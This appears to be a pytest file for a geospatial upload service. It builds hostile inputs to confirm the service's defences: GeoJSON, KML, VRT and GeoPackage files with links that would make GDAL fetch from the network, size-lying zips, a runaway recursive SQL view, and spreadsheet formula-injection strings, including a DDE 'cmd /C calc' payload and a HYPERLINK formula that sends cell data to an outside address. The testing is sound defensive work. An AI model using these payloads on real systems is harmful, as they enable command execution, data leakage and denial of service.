"""Hostile files, one test per finding of issue 15. Every file is built here, in code."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import struct
import time
import zipfile
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pyogrio
import pytest
import shapely

from core import archives, formats, geojson, privacy, sandbox
from core.errors import ReadError
from core.io import list_layers, read_upload

HANGZHOU = (120.157, 30.267)
ROOT = Path(__file__).resolve().parents[2]


def zipped(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, blob in files.items():
            archive.writestr(member, blob)
    return buffer.getvalue()


def point(lon: float = HANGZHOU[0], lat: float = HANGZHOU[1], **properties) -> dict:
    return {"type": "Feature", "properties": properties, "geometry": {"type": "Point", "coordinates": [lon, lat]}}


def grids_frame(n: int = 3) -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(
        {"code": [f"g{i}" for i in range(n)]},
        geometry=[shapely.box(120 + i * 0.01, 30, 120.01 + i * 0.01, 30.01) for i in range(n)],
        crs="EPSG:4326",
    )


# ---- 1. no network reads ------------------------------------------------------------------------


def link_bearing_files(url: str, tmp_path: Path) -> dict[str, bytes]:
    link = {"type": "link", "properties": {"href": f"{url}/crs", "type": "esriwkt"}}
    named = {"type": "name", "properties": {"name": "urn:ogc:def:crs:OGC:1.3:CRS84"}}
    head = '{"type": "FeatureCollection", '
    features = json.dumps([point()])
    files = {
        "duplicate.geojson": f'{head}"crs": {json.dumps(named)}, "crs": {json.dumps(link)}, "features": {features}}}',
        "escaped.geojson": f'{head}"\\u0063rs": {json.dumps(link)}, "features": {features}}}',
        "upper.geojson": f'{head}"features": {features}, "CRS": {json.dumps(link)}}}',
        "geometry.geojson": json.dumps(
            {
                "type": "FeatureCollection",
                "features": [
                    {
                        "type": "Feature",
                        "properties": {},
                        "geometry": {"type": "Point", "coordinates": list(HANGZHOU), "crs": link},
                    }
                ],
            }
        ),
        "network.kml": f'<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document>'
        f"<NetworkLink><Link><href>{url}/k.kml</href></Link></NetworkLink><Placemark><name>a</name>"
        f"<Point><coordinates>120.1,30.2</coordinates></Point></Placemark></Document></kml>",
    }
    out = {name: text.encode() for name, text in files.items()}
    vrt = (
        f'<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>/vsicurl/{url}/x.csv</SrcDataSource>'
        f"</OGRVRTLayer></OGRVRTDataSource>"
    ).encode()
    out["vrt.zip"] = zipped({"x.vrt": vrt, "x.csv": b"lon,lat\n120.1,30.2\n"})
    folder = tmp_path / "shp"
    folder.mkdir()
    pyogrio.write_dataframe(grids_frame(), folder / "g.shp")
    parts = {p.suffix: p.read_bytes() for p in folder.iterdir()}
    parts[".prj"] = f"{url}/g.prj".encode()
    out["prj.zip"] = zipped({f"g{suffix}": blob for suffix, blob in parts.items()})
    gpkg = tmp_path / "vsicurl.gpkg"
    pyogrio.write_dataframe(grids_frame().assign(code=f"/vsicurl/{url}/gpkg"), gpkg, layer="l")
    with sqlite3.connect(gpkg) as db:
        db.execute("UPDATE gpkg_spatial_ref_sys SET definition = ? WHERE srs_id = 4326", (f"{url}/srs",))
        db.execute("UPDATE gpkg_contents SET description = ?", (f"/vsicurl/{url}/contents",))
    out["vsicurl.gpkg"] = gpkg.read_bytes()
    return out


def test_no_upload_makes_gdal_fetch_anything(listener, tmp_path):
    for name, data in link_bearing_files(listener.url, tmp_path).items():
        try:
            list_layers(name, data)
            read_upload(name, data)
        except ReadError:
            pass  # refused is fine; fetching is not
    assert listener.requests == []


def test_every_crs_member_is_dropped_whatever_its_spelling():
    link = {"type": "link", "properties": {"href": "http://192.0.2.1/x"}}
    text = (
        '{"type": "FeatureCollection", "crs": {"type": "name", "properties": {"name": "EPSG:4326"}}, '
        f'"\\u0063rs": {json.dumps(link)}, "Crs": {json.dumps(link)}, "features": [{json.dumps(point(crs="kept"))}]}}'
    )
    assert geojson._leading_crs(text) is None
    document, declared = geojson._without_crs(text)
    assert declared == {"type": "name", "properties": {"name": "EPSG:4326"}}
    assert "crs" not in json.dumps(document).replace('"crs": "kept"', "").lower()
    assert document["features"][0]["properties"] == {"crs": "kept"}


def test_gdal_itself_is_offline_in_the_worker(listener):
    """Even a link GDAL is handed directly (no stripping) is not fetched: the worker's GDAL is offline."""
    text = json.dumps(
        {
            "type": "FeatureCollection",
            "features": [point()],
            "crs": {"type": "link", "properties": {"href": f"{listener.url}/crs", "type": "esriwkt"}},
        }
    )
    frame = sandbox.run("raw.geojson", pyogrio.read_dataframe, text.encode())
    assert len(frame) == 1
    assert listener.requests == []


# ---- 2. bounded memory --------------------------------------------------------------------------


def lying_zip(member: str, content: bytes, claimed: int) -> bytes:
    """A zip whose headers say ``member`` unpacks to ``claimed`` bytes while it holds ``content``."""
    data = bytearray(zipped({member: content}))
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(signature)
        data[at + offset : at + offset + 4] = struct.pack("<I", claimed)
    return bytes(data)


def test_a_zip_that_lies_about_its_sizes_is_stopped_at_what_it_declares():
    data = lying_zip(
        "big.geojson",
        b" " * 3_000_000 + json.dumps({"type": "FeatureCollection", "features": [point()]}).encode(),
        claimed=1_000,
    )
    with pytest.raises(ReadError, match=r"the member `big.geojson` cannot be unpacked"):
        read_upload("liar.zip", data)
    archive = zipfile.ZipFile(io.BytesIO(zipped({"a.geojson": b" " * 5_000})))
    with pytest.raises(ReadError, match=r"unpacks to more than 0\.0 MB \(it declares 0\.0 MB\)") as caught:
        archives.read_member("counted.zip", archive, archive.infolist()[0], limit=500)
    assert caught.value.code == "zip_lies"


def test_a_member_declaring_more_than_the_cap_is_refused_before_unpacking(monkeypatch):
    monkeypatch.setattr(sandbox, "run", lambda label, function, *args: function(*args))
    monkeypatch.setattr(formats, "MAX_UPLOAD_BYTES", 100_000)
    data = zipped({"big.geojson": json.dumps({"type": "FeatureCollection", "features": [point()] * 2_000}).encode()})
    assert len(data) < 100_000
    with pytest.raises(ReadError, match=r"which unpacks to 0.2 MB; a file may unpack to at most 0.1 MB"):
        read_upload("big.zip", data)


def test_a_read_that_needs_too_much_memory_ends_its_worker(monkeypatch):
    monkeypatch.setenv("GRIDWATCH_READ_MEMORY_MB", "64")
    features = [point(120 + i * 1e-5, 30, note="x" * 1_000) for i in range(100_000)]
    data = json.dumps({"type": "FeatureCollection", "features": features}).encode()
    with pytest.raises(ReadError, match="needs more than 64 MB of memory to read") as caught:
        read_upload("huge.geojson", data)
    assert caught.value.code == "read_memory"


def test_a_read_that_takes_too_long_ends_its_worker(monkeypatch):
    monkeypatch.setenv("GRIDWATCH_READ_SECONDS", "1")
    started = time.monotonic()
    with pytest.raises(ReadError, match="took longer than 1 s to read") as caught:
        sandbox.run("slow.gpkg", time.sleep, 30)
    assert time.monotonic() - started < 10
    assert caught.value.code == "read_time"


# ---- 3. bounded CPU: GeoPackage views are never run ----------------------------------------------


def cte_view_gpkg(tmp_path: Path) -> bytes:
    """A GeoPackage with one table layer and a view layer whose recursive CTE runs for hours."""
    path = tmp_path / "cte.gpkg"
    pyogrio.write_dataframe(grids_frame(), path, layer="grids")
    with sqlite3.connect(path) as db:
        db.execute(
            "CREATE VIEW slow AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n "
            "WHERE i < 10000000000) SELECT i AS fid, (SELECT geom FROM grids LIMIT 1) AS geom FROM n"
        )
        db.execute(
            "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) "
            "VALUES ('slow', 'features', 'slow', 4326)"
        )
        db.execute("INSERT INTO gpkg_geometry_columns VALUES ('slow', 'geom', 'POLYGON', 4326, 0, 0)")
    return path.read_bytes()


def test_geopackage_views_are_never_listed_or_run(tmp_path):
    data = cte_view_gpkg(tmp_path)
    started = time.monotonic()
    assert list_layers("cte.gpkg", data) == ("grids",)
    assert len(read_upload("cte.gpkg", data).frame) == 3
    assert time.monotonic() - started < 10
    with pytest.raises(ReadError, match="has no layer `slow`; its layers are: grids"):
        read_upload("cte.gpkg", data, layer="slow")


# ---- 4. no formula injection in downloads --------------------------------------------------------

HOSTILE_NAMES = [
    '=HYPERLINK("http://192.0.2.1/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "  =cmd|' /C calc'!A0",
    "灯芯巷网格",
    "a=b",
]


def test_downloads_hold_no_cell_a_spreadsheet_would_run():
    import openpyxl

    from core import exports

    table = pd.DataFrame(
        {"name": HOSTILE_NAMES, "tickets": range(len(HOSTILE_NAMES)), "=1+1": [-1.5] * len(HOSTILE_NAMES)}
    )
    book = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(table, "=ranking")))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert [c for c in cells if c.data_type == "f"] == []
    expected = ["'" + n for n in HOSTILE_NAMES[:7]] + HOSTILE_NAMES[7:]
    assert [c.value for c in cells[3::3]] == [e.replace("\r", "\n") for e in expected]  # XML keeps no CR
    assert book.active.title == "'=ranking" and cells[2].value == "'=1+1"
    assert [c.value for c in cells[4::3]] == list(range(len(HOSTILE_NAMES)))  # numbers stay numbers
    rows = list(csv.reader(io.StringIO(exports.csv_bytes(table).decode("utf-8-sig"), newline="")))
    assert rows[0] == ["name", "tickets", "'=1+1"]
    assert [r[0] for r in rows[1:]] == expected
    assert rows[1][2] == "-1.5"


def test_every_download_goes_through_core_exports():
    sources = [p for folder in ("dashboard", "core") for p in (ROOT / folder).rglob("*.py") if p.name != "exports.py"]
    direct = [
        f"{p.relative_to(ROOT)}"
        for p in sources
        if re.search(r"\.to_csv\(|\.to_excel\(|ExcelWriter", p.read_text(encoding="utf-8"))
    ]
    assert direct == []


# ---- 5. no silent wipe --------------------------------------------------------------------------


@pytest.fixture(scope="module")
def demo():
    from geodata import load_demo

    return load_demo()


@pytest.fixture
def ws(tmp_path, demo):
    from core.store import open_store

    store = open_store("w", tmp_path)
    store.initialize({k: demo[k] for k in ("grids", "tickets")}, note="seed")
    return store


def test_an_upload_that_would_empty_or_halve_a_layer_needs_a_confirmation(ws, demo, tmp_path):
    from core import uploads
    from core.errors import GridWatchError

    def gpkg(frame: gpd.GeoDataFrame) -> bytes:
        path = tmp_path / f"{len(frame)}.gpkg"
        pyogrio.write_dataframe(frame, path)
        return path.read_bytes()

    check = uploads.check_upload(ws, "grids", "grids.gpkg", gpkg(demo["grids"].iloc[:0]))
    assert (len(check.frame), check.errors, check.shrink.active, check.shrink.removed) == (0, (), 130, 130)
    report = "\n".join(uploads.report_lines(check))
    assert "1 error(s)" in report and "would remove 130 (100%)" in report
    with pytest.raises(GridWatchError, match=r"would remove 130 \(100%\)"):
        uploads.activate_upload(ws, check, note="wipe", author="t")
    assert ws.version() == 1
    tickets = demo["tickets"]
    few = tickets.iloc[: len(tickets) // 3]
    check = uploads.check_upload(ws, "tickets", "t.gpkg", gpkg(few))
    assert (check.shrink.active, check.shrink.new) == (len(tickets), len(few))
    assert uploads.check_upload(ws, "tickets", "t.gpkg", gpkg(tickets.iloc[: len(tickets) * 2 // 3])).shrink is None
    assert uploads.activate_upload(ws, check, note="meant", author="t", confirm_shrink=True) == 2
    assert len(ws.read("tickets")) == len(few)


def test_a_dbf_whose_header_disagrees_with_its_size_is_refused(tmp_path):
    folder = tmp_path / "shp"
    folder.mkdir()
    pyogrio.write_dataframe(grids_frame(40), folder / "g.shp")
    parts = {p.suffix: bytearray(p.read_bytes()) for p in folder.iterdir()}
    parts[".dbf"][4:8] = struct.pack("<I", 5)
    data = zipped({f"g{suffix}": bytes(blob) for suffix, blob in parts.items()})
    with pytest.raises(ReadError, match=r"the .dbf header says it holds 5 records, but the file holds 40"):
        read_upload("g.zip", data)


# ---- 6. personal data in free text --------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("(0571)88889999", "057*****9999"),
        ("0571-8888 9999", "057*****9999"),
        ("１３８１２３４５６７８", "138****5678"),
        ("Tel13812345678", "Tel138****5678"),
        ("138.1234.5678", "138****5678"),
        ("+86 138 1234 5678", "138****5678"),
        ("座机88889999", "座机******99"),
        ("2026年10月31日收到3件，订单20261031", "2026年10月31日收到3件，订单20261031"),
    ],
)
def test_phone_numbers_written_the_ways_residents_write_them_are_masked(text, shown):
    assert privacy.mask_text(text) == shown


def test_rows_left_out_of_an_upload_are_masked_in_every_text_column():
    rows = pd.DataFrame({"诉求内容": ["电话13812345678"], "n": [1]})
    assert privacy.mask_every_text(rows).iloc[0].tolist() == ["电话138****5678", 1]


def test_phone_and_id_numbers_in_free_text_are_masked():

    text = (
        "住户13812345678反映，身份证110101199003071234，另一个11010119900307123X；"
        "座机0571-87654321，+86 139 1234 5678，工单号20240101，卡号6222021234567890123"
    )
    assert privacy.mask_text(text) == (
        "住户138****5678反映，身份证110***********1234，另一个110***********123X；"
        "座机057*****4321，139****5678，工单号20240101，卡号622************0123"
    )
    frame = pd.DataFrame({"description": [text, None], "ticket_id": ["13812345678", "b"]})
    masked = privacy.mask_free_text(frame)
    assert "13812345678" not in masked["description"].iloc[0] and pd.isna(masked["description"].iloc[1])
    assert masked["ticket_id"].tolist() == ["13812345678", "b"] and frame["description"].iloc[0] == text


# ---- 7/8. clear messages, never a traceback -----------------------------------------------------


def test_kml_with_5000_nested_folders_is_refused_clearly():
    body = "<Folder><name>f</name>" * 5_000 + "</Folder>" * 5_000
    data = f'<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{body}</Document></kml>'.encode()
    with pytest.raises(ReadError, match="nests Folders more than 100 deep") as caught:
        read_upload("deep.kml", data)
    assert caught.value.code == "kml_deep"


def test_wkt_with_an_unknown_srid_is_refused_clearly():
    data = b"name,wkt\na,SRID=99999999;POINT (120.1 30.2)\n"
    with pytest.raises(ReadError, match="says SRID=99999999, which is not an EPSG code") as caught:
        read_upload("w.csv", data)
    assert caught.value.code == "wkt_srid"


def test_a_nan_vertex_does_not_break_the_datum_check(ws):
    from core import uploads

    grid = {
        "type": "Feature",
        "properties": {"grid_id": "x1", "name": "a"},
        "geometry": {
            "type": "Polygon",
            "coordinates": [[[120.1, 30.2], [120.2, 30.2], [120.2, float("nan")], [120.1, 30.2]]],
        },
    }
    data = json.dumps({"type": "FeatureCollection", "features": [grid]}).encode()
    check = uploads.check_upload(ws, "grids", "nan.geojson", data)
    assert check.offset is not None and check.errors


def test_mapping_to_a_missing_column_is_refused_clearly(ws, demo):
    from core import uploads

    data = demo["grids"].to_json(drop_id=True).encode()
    with pytest.raises(ReadError, match="has no column `编号` \\(mapped to `grid_id`\\)") as caught:
        uploads.check_upload(ws, "grids", "g.geojson", data, overrides={"grid_id": "编号"})
    assert caught.value.code == "map_column"
    with pytest.raises(ReadError, match="`colour` is not a field of grids"):
        uploads.check_upload(ws, "grids", "g.geojson", data, overrides={"colour": "name"})


def test_utf16_kml_without_bom_is_checked_for_declarations():
    kml = (
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE kml [<!ENTITY x "y">]>'
        '<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&x;</name>'
        "<Point><coordinates>120.1,30.2</coordinates></Point></Placemark></kml>"
    )
    for codec in ("utf-16-le", "utf-16-be"):
        with pytest.raises(ReadError, match="declares a DOCTYPE or ENTITY"):
            read_upload("wide.kml", kml.encode(codec))
